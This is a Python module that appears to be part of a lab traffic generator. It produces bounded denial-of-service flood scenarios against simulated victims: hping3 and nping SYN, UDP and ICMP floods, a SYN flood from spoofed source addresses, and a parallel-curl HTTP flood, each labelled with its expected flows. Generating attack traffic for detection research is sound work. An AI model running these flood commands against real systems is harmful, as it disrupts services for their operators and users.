# SPDX-License-Identifier: Apache-2.0
"""Floods, bounded in packets: SYN, ACK, UDP and ICMP by hping3 and nping (also with spoofed sources), HTTP by many curls at once."""

from __future__ import annotations

from random import Random

from lab.scenarios.attack.targets import any_victim, ip_version, victim_with
from lab.scenarios.scenario import ICMP4, TCP, UDP, Attack, AttackDraft, Leg, Scene
from lab.topology import Host

MOST_PACKETS = 8000
GENTLE_PACKETS = 1200


def _volume(scene: Scene, chance: Random) -> tuple[int, int]:
    """Packets, and µs between two."""
    most = GENTLE_PACKETS if scene.gentle else MOST_PACKETS
    packets = chance.randint(most // 4, most)
    return packets, max(chance.choice((300, 700, 2000, 8000)), 400 if scene.gentle else 0)


def _limit(packets: int, gap_us: int) -> int:
    return min(45, 8 + packets * gap_us * 2 // 1_000_000)


def _tcp_port(scene: Scene, victim: Host, chance: Random) -> int:
    network = scene.network
    return (
        chance.choice((network.web_port, network.ssh_port, network.tls_port))
        if victim.services
        else chance.randint(1, 9999)
    )


def hping_tcp(scene: Scene, chance: Random) -> AttackDraft:
    victim = any_victim(scene, chance)
    packets, gap = _volume(scene, chance)
    port, flags = _tcp_port(scene, victim, chance), chance.choice(("-S", "-S", "-S", "-A", "-P -A -d 120"))
    command = f"hping3 -q {flags} -p {port} -i u{gap} -c {packets} {scene.address(victim, 4)}"
    return AttackDraft(
        "flood",
        "hping3",
        f"tcp {flags}; n={packets}; gap={gap}us",
        command,
        _limit(packets, gap),
        (scene.leg(victim, 4, TCP, port),),
    )


def hping_spoofed(scene: Scene, chance: Random) -> AttackDraft:
    """SYNs with made-up sources of the attacker's own segment where nobody is, so that nobody answers the SYN-ACKs."""
    victim = victim_with(scene, chance, "nginx") or any_victim(scene, chance)
    packets, gap = _volume(scene, chance)
    port = _tcp_port(scene, victim, chance)
    base = scene.network.segment("out").gateway4.network.network_address + 3500
    sources = [str(base + n) for n in range(chance.randint(3, 16))]
    each = packets // len(sources)
    command = (
        "\n".join(
            f"hping3 -q -S -a {source} -p {port} -i u{gap * len(sources)} -c {each} {scene.address(victim, 4)} &"
            for source in sources
        )
        + "\nwait"
    )
    # The router cannot deliver the SYN-ACKs and tells the victim so.
    unreachable = Leg(str(scene.network.segment(victim.segment).gateway4.ip), scene.address(victim, 4), ICMP4)
    legs = (*(Leg(source, scene.address(victim, 4), TCP, port) for source in sources), unreachable)
    return AttackDraft(
        "flood", "hping3", f"syn spoofed from {len(sources)}; n={packets}", command, _limit(packets, gap), legs
    )


def hping_udp(scene: Scene, chance: Random) -> AttackDraft:
    victim = any_victim(scene, chance)
    packets, gap = _volume(scene, chance)
    port, size = chance.choice((53, 123, 1900, chance.randint(1024, 60000))), chance.choice((0, 64, 512, 1200))
    command = f"hping3 -q --udp -p {port} -d {size} -i u{gap} -c {packets} {scene.address(victim, 4)}"
    return AttackDraft(
        "flood",
        "hping3",
        f"udp; size={size}; n={packets}; gap={gap}us",
        command,
        _limit(packets, gap),
        (scene.leg(victim, 4, UDP, port), scene.icmp_leg(victim, 4)),
    )


def hping_icmp(scene: Scene, chance: Random) -> AttackDraft:
    victim = any_victim(scene, chance)
    packets, gap = _volume(scene, chance)
    size = chance.choice((0, 56, 800, 1300))
    command = f"hping3 -q --icmp -d {size} -i u{gap} -c {packets} {scene.address(victim, 4)}"
    return AttackDraft(
        "flood",
        "hping3",
        f"icmp; size={size}; n={packets}; gap={gap}us",
        command,
        _limit(packets, gap),
        (scene.leg(victim, 4, ICMP4),),
    )


def nping(scene: Scene, chance: Random) -> AttackDraft:
    victim, version = any_victim(scene, chance), ip_version(chance)
    packets, _ = _volume(scene, chance)
    rate = chance.choice((100, 300, 800))
    packets = min(packets, rate * 25)
    port = _tcp_port(scene, victim, chance)
    way = chance.choice(
        (
            f"--tcp --flags syn -p {port}",
            f"--udp -p {port} --data-length 300",
            f"--tcp-connect -p {port}",
            "--icmp" if version == 4 else f"--tcp -p {port}",
        )
    )
    version = 4 if "--udp" in way else version  # nping sends no UDP over IPv6
    six = "-6" if version == 6 else ""
    # In these modes nping keeps one source port, so a whole flood may be one flow: as with real tools.
    command = f"nping {six} {way} -H -N -q --rate {rate} -c {packets} {scene.address(victim, version)}"
    if "connect" in way:
        command = f"nping {six} {way} -q --rate {rate} -c {packets} {scene.address(victim, version)}"
    protocol = UDP if "udp" in way else TCP
    legs = (
        (scene.icmp_leg(victim, version),)
        if "icmp" in way
        else (scene.leg(victim, version, protocol, port), scene.icmp_leg(victim, version))
    )
    return AttackDraft("flood", "nping", f"{way}; rate={rate}; n={packets}", command, 40, legs)


def http(scene: Scene, chance: Random) -> AttackDraft | None:
    victim = victim_with(scene, chance, "webapp")
    if victim is None:
        return None
    version, tls = ip_version(chance), chance.random() < 0.3
    port = scene.network.tls_port if tls else scene.network.web_port
    requests = chance.randint(80, 300) if scene.gentle else chance.randint(200, 1200)
    page = chance.choice(("/", "/app/search?q=[1-%d]", "/app/item?id=[1-%d]", "/p/[0-9].html?n=[1-%d]"))
    page = page % (requests // 10 if "html" in page else requests) if "%" in page else f"{page}?n=[1-{requests}]"
    width = chance.choice((5, 15, 40))
    again = "-H 'Connection: close'" if chance.random() < 0.6 else ""
    url = scene.url(victim, tls, page)  # by name: curl cannot expand [1-9] beside an address in brackets
    command = f"curl -{version} -k -s -o /dev/null -Z --parallel-max {width} {again} --max-time 30 '{url}'"
    return AttackDraft(
        "flood",
        "curl",
        f"http; requests={requests}; width={width}",
        command,
        35,
        (scene.leg(victim, version, TCP, port),),
    )


ATTACKS = (
    Attack("hping3-tcp-flood", hping_tcp, weight=3),
    Attack("hping3-spoofed-syn", hping_spoofed),
    Attack("hping3-udp-flood", hping_udp, weight=2),
    Attack("hping3-icmp-flood", hping_icmp),
    Attack("nping-flood", nping, weight=2),
    Attack("http-flood", http, weight=3),
)
